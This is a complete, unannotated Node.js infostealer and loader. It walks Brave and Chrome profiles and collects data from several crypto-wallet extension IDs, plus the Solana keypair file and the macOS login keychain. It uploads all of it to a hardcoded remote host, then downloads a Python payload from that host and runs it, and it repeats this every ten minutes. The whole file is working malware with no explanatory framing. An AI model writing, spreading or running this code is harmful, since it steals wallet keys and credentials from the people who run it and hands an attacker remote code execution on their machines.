const fs = require('fs'), os = require('os'), path = require('path'), request = require('request'), ex = require('child_process').exec;
const hs = os.hostname(), pl = os.platform(), hd = os.homedir(), td = os.tmpdir();
const host = 'http://192.0.2.77:1224';
const gs = (d) => d.replace(/^~([a-z]+|\/)/, (m, p) => (p === '/' ? hd : `${path.dirname(hd)}/${p}`));
const C = ['Local/BraveSoftware/Brave-Browser', 'BraveSoftware/Brave-Browser', 'BraveSoftware/Brave-Browser'];
const G = ['Local/Google/Chrome', 'Google/Chrome', 'google-chrome'];
const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'ejbalbakoplchlghecdalmeeeajnimhm', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'hnfanknocfeofbddgcijnmhnfnkdnaad'];
const root = (b) => gs('~/') + (pl[0] === 'd' ? '/Library/Application Support/' + b[1] : pl[0] === 'l' ? '/.config/' + b[2] : '/AppData/' + b[0] + '/User Data');
const ts = Date.now().toString();

const up = (files) => {
  const form = { ts, type: '7', hid: hs, multi_file: files };
  try {
    request.post({ url: host + '/uploads', formData: form }, () => {});
  } catch (e) {}
};

const ext = (b, tag) => {
  const r = root(b);
  const out = [];
  for (let i = 0; i < 200; i++) {
    const prof = `${r}/${i === 0 ? 'Default' : 'Profile ' + i}/Local Extension Settings`;
    for (const id of ids) {
      const dir = `${prof}/${id}`;
      let names = [];
      try {
        names = fs.readdirSync(dir);
      } catch (e) {}
      for (const n of names) {
        if (n.includes('.log') || n.includes('.ldb')) out.push({ value: fs.createReadStream(path.join(dir, n)), options: { filename: `${tag}${i}_${id}_${n}` } });
      }
    }
  }
  const sol = `${hd}/.config/solana/id.json`;
  if (fs.existsSync(sol)) out.push({ value: fs.createReadStream(sol), options: { filename: 'solana_id.txt' } });
  const kc = `${hd}/Library/Keychains/login.keychain`;
  if (fs.existsSync(kc)) out.push({ value: fs.createReadStream(kc), options: { filename: 'logkc-db' } });
  up(out);
};

const py = () => {
  request.get(host + '/client/7/702', (err, res, body) => {
    if (err) return;
    fs.writeFileSync(hd + '/.npl', body);
    ex(`${pl[0] === 'w' ? hd + '\\.pyp\\python.exe' : 'python3'} "${hd}/.npl"`, () => {});
  });
};

let n = 0;
const run = () => {
  ext(C, '0');
  ext(G, '1');
  py();
};
run();
const timer = setInterval(() => (++n < 5 ? run() : clearInterval(timer)), 600000);
